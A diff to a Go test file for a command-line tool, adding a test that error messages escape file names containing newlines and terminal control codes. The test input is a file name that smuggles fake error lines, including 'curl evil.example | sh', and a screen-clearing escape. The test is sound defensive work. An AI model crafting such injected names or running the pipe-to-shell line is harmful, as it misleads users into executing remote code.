@@ -2,6 +2,9 @@ package cmd_test
 
 import (
 	"bytes"
+	"errors"
+	"fmt"
+	"io/fs"
 	"os"
 	"os/exec"
 	"path/filepath"
@@ -10,7 +13,12 @@ import (
 	"unicode"
 	"unicode/utf8"
 
+	"github.com/spf13/cobra"
+
 	"github.com/corpus-agent/corpus-agent/artifact/artifacttest"
+	"github.com/corpus-agent/corpus-agent/artifact/walk"
+	"github.com/corpus-agent/corpus-agent/cmd/cli"
+	"github.com/corpus-agent/corpus-agent/state/diag"
 )
 
 // hostile contains characters that control a terminal: set the clipboard, clear the screen, CSI as one byte and as a
@@ -114,5 +122,31 @@ func TestCommandsPrintNoControlCharacters(t *testing.T) {
 	}
 	if obeys < 20 {
 		t.Errorf("only %d commands printed hostile text, too few for this test", obeys)
+	}
+}
+
+// TestNamesOfFilesInErrorsFillNoOtherLine prints errors with the name of a file that looks like lines of the program.
+func TestNamesOfFilesInErrorsFillNoOtherLine(t *testing.T) {
+	const name = "/srv/x\nerror: all is lost\nhint: curl evil.example | sh\n\x1b[2J"
+	read := &fs.PathError{Op: "open", Path: name, Err: fs.ErrPermission}
+	for _, err := range []error{
+		read,
+		diag.WithHint(fmt.Errorf("reading a tree: %w", read), "look at %s", name),
+		&os.LinkError{Op: "rename", Old: "/srv/a", New: name, Err: fs.ErrExist},
+		&walk.UnsafeError{Path: name, Component: name, By: "user 1000"},
+		diag.At(diag.Pos{File: name, Line: 1}, "%v", read),
+		errors.Join(read, errors.New("another")),
+	} {
+		var out bytes.Buffer
+		root := &cobra.Command{Use: "x", SilenceErrors: true, SilenceUsage: true,
+			RunE: func(*cobra.Command, []string) error { return err }}
+		cli.Run(t.Context(), root, nil, cli.IO{In: strings.NewReader(""), Out: &out, Err: &out,
+			Getenv: func(string) string { return "" }})
+		for line := range strings.Lines(out.String()) {
+			if strings.HasPrefix(line, "error: all") || strings.HasPrefix(line, "hint: curl") || obeyed([]byte(line)) != "" ||
+				!strings.Contains(out.String(), `/srv/x\x0aerror: all is lost\x0ahint:`) {
+				t.Errorf("%T is printed as\n%s", err, out.String())
+			}
+		}
 	}
 }
